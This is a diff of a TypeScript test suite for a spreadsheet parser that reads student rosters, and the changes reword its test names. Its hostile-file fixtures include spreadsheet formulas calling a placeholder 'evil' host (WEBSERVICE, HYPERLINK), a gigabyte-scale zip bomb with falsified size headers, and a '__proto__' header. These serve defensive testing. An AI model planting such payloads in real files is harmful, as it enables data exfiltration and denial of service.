@@ -25,12 +25,12 @@ const problemOf = (bytes: Uint8Array): string => {
     return 'none'
   } catch (error) {
     if (error instanceof SheetProblem) return error.code
-    // What the worker makes of any other failure.
+    // The worker gives this code for any other failure.
     return 'notASheet'
   }
 }
 
-describe('a file, read away from the server’s own thread', () => {
+describe('a file that is parsed in a worker thread', () => {
   it('gives the students of its first sheet', async () => {
     const [item, ...others] = await readSheet(fileOf([HEADINGS, ROW]))
     expect(item).toEqual({
@@ -46,18 +46,18 @@ describe('a file, read away from the server’s own thread', () => {
     expect(others).toEqual([])
   })
 
-  it('that holds nothing is empty', async () => {
+  it('without rows is an empty list', async () => {
     for (const file of [new Uint8Array(), bytesOf(' \n '), fileOf([]), fileOf([HEADINGS]), bytesOf(HEADINGS.join())])
       await expect(readSheet(file)).rejects.toMatchObject({ code: 'emptySheet' })
   })
 
-  it('that has nothing to do with students, or too many of them, is refused', async () => {
+  it('without students, or with too many of them, is refused', async () => {
     await expect(readSheet(bytesOf('a,b\n1,2\n'))).rejects.toMatchObject({ code: 'notASheet' })
     const many = `${HEADINGS.join()}\n${`${ROW.join()}\n`.repeat(5_001)}`
     await expect(readSheet(bytesOf(many))).rejects.toMatchObject({ code: 'tooManyRows' })
   })
 
-  it('that takes too long is given up, and the next one is read', async () => {
+  it('that takes too long is stopped, and the next one is parsed', async () => {
     const [slow, next] = await Promise.allSettled([
       readSheet(fileOf([HEADINGS, ROW]), { timeoutMs: 1 }),
       readSheet(fileOf([HEADINGS, ROW])),
@@ -66,7 +66,7 @@ describe('a file, read away from the server’s own thread', () => {
     expect(next).toMatchObject({ status: 'fulfilled' })
   })
 
-  it('is not taken when many are waiting', async () => {
+  it('is refused when many are waiting', async () => {
     const all = await Promise.allSettled(Array.from({ length: 8 }, () => readSheet(bytesOf(CSV))))
     expect(all.filter(({ status }) => status === 'fulfilled')).toHaveLength(5)
     expect(all.at(-1)).toMatchObject({ reason: { code: 'unavailable' } })
@@ -80,7 +80,7 @@ describe('the cells of a file', () => {
     expect(row?.map(String)).toEqual(ROW.map(String))
   })
 
-  it('are the values of formulas, never formulas', () => {
+  it('contain the values of formulas, never formulas', () => {
     const file = fileOf([HEADINGS, ROW], 'xlsx', (sheet) => {
       sheet['G2'] = { t: 'n', v: 27, f: 'HYPERLINK("http://evil","x")+10+17' }
       sheet['A2'] = { t: 's', v: 'Sahra', f: 'WEBSERVICE("http://evil")' }
@@ -88,7 +88,7 @@ describe('the cells of a file', () => {
     expect(tableOf(file)[1]).toEqual(['Sahra', ...ROW.slice(1, 6), 27])
   })
 
-  it('of merged ranges are filled only at their corner', () => {
+  it('in merged ranges are filled in the first cell only', () => {
     const rows = [HEADINGS, ROW, ROW.with(2, null as never)]
     const file = fileOf(rows, 'xlsx', (sheet) => {
       sheet['!merges'] = [XLSX.utils.decode_range('C2:C3')]
@@ -96,21 +96,21 @@ describe('the cells of a file', () => {
     expect(tableOf(file).map((cells) => cells[2])).toEqual(['classId', '1A', null])
   })
 
-  it('that look like dates stay the numbers they are', () => {
+  it('that look like dates stay numbers', () => {
     const file = fileOf([HEADINGS, ROW], 'xlsx', (sheet) => {
       sheet['F2'] = { t: 'n', v: 45_000, z: 'dd/mm/yyyy' }
     })
     expect(tableOf(file)[1]?.[5]).toBe(45_000)
   })
 
-  it('that hold errors are empty', () => {
+  it('with errors are empty', () => {
     const file = fileOf([HEADINGS, ROW], 'xlsx', (sheet) => {
       sheet['G2'] = { t: 'e', v: 0x07 }
     })
     expect(tableOf(file)[1]?.[6] ?? null).toBeNull()
   })
 
-  it('in columns far to the right are passed over', () => {
+  it('in columns far to the right are skipped', () => {
     const file = fileOf([HEADINGS, ROW], 'xlsx', (sheet) => {
       sheet['XFD2'] = { t: 's', v: 'far' }
       sheet['!ref'] = 'A1:XFD2'
@@ -129,11 +129,11 @@ describe('the cells of a file', () => {
     expect(tableOf(bytes).slice(0, 2)).toEqual([HEADINGS, ROW.map(String)])
   })
 
-  it('are read from text in the encoding of Windows', () => {
+  it('are read from text in Windows-1252', () => {
     expect(tableOf(bytesOf('firstname,lastname\nFu\u0092aad,Jos\u00e9\n', 'latin1'))[1]).toEqual(['Fu’aad', 'José'])
   })
 
-  it('named after a prototype are cells like any other', () => {
+  it('named like properties of Object.prototype are ordinary cells', () => {
     const file = fileOf([
       ['__proto__', ...HEADINGS],
       ['x', ...ROW],
@@ -144,14 +144,14 @@ describe('the cells of a file', () => {
 })
 
 describe('a hostile file', () => {
-  it('that unfolds to gigabytes is refused before it is unfolded, whatever size it claims', () => {
+  it('that unpacks to gigabytes is refused before it is unpacked, whatever size it declares', () => {
     const bomb = deflateRawSync(Buffer.alloc(300_000_000), { level: 9 })
     expect(bomb.length).toBeLessThan(5_000_000)
     for (const claimed of [300_000_000, 10, 0xffff_ffff])
       expect(problemOf(zipOf('xl/workbook.xml', bomb, claimed))).toBe('tooManyRows')
   })
 
-  it('with a million rows is refused as such', () => {
+  it('with a million rows is refused with `tooManyRows`', () => {
     const sheet: XLSX.WorkSheet = {
       A1: { t: 's', v: 'firstname' },
       A1000000: { t: 's', v: 'x' },
